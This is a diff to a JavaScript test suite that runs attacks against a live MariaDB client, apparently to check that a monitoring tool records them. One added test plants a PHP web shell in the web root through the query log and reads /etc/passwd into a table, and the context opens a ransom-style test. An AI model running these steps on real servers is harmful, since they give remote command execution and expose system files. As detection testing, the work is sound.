@@ -110,6 +110,34 @@ describe('MariaDB, with real clients', () => {
     )
   })
 
+  test('a web shell by the query log, and a file of the machine read into a table', {
+    skip: missing('mariadb'),
+  }, async () => {
+    const { out, err } = await mariadb(`
+      SET GLOBAL general_log_file = '/var/www/html/up.php';
+      SET GLOBAL general_log = ON;
+      SELECT '<?php system($_GET[1]); ?>';
+      SET GLOBAL general_log = OFF;
+      SELECT LOAD_FILE('/var/www/html/up.php');
+      CREATE DATABASE stolen; CREATE TABLE stolen.lines (line TEXT);
+      LOAD DATA INFILE '/etc/passwd' INTO TABLE stolen.lines;
+      SELECT line FROM stolen.lines LIMIT 1;
+      DROP DATABASE stolen;`)
+    assert.match(out, /Query\s+SELECT '<\?php system/, err)
+    assert.match(out, /root:x:0:0:root/)
+    await skep.eventually(
+      event => ofAction('file-upload')(event) && JSON.stringify(event).includes('/var/www/html/up.php'),
+    )
+  })
+
+  test('what is not committed is gone with the client', { skip: missing('mariadb') }, async () => {
+    await mariadb('CREATE DATABASE ledger; CREATE TABLE ledger.t (a INT); INSERT INTO ledger.t VALUES (1);')
+    await mariadb('SET autocommit = 0; INSERT INTO ledger.t VALUES (2); DELETE FROM ledger.t WHERE a = 1;')
+    const { out } = await mariadb('SELECT a FROM ledger.t; DROP DATABASE ledger;')
+    assert.match(out, /\| +1 \|/)
+    assert.doesNotMatch(out, /\| +2 \|/)
+  })
+
   test('a ransom: the data gone, the note there at the next visit', { skip: missing('mariadb') }, async () => {
     const { out: before } = await mariadb('SELECT schema_name FROM information_schema.schemata', ['-N'])
     const [victim] =
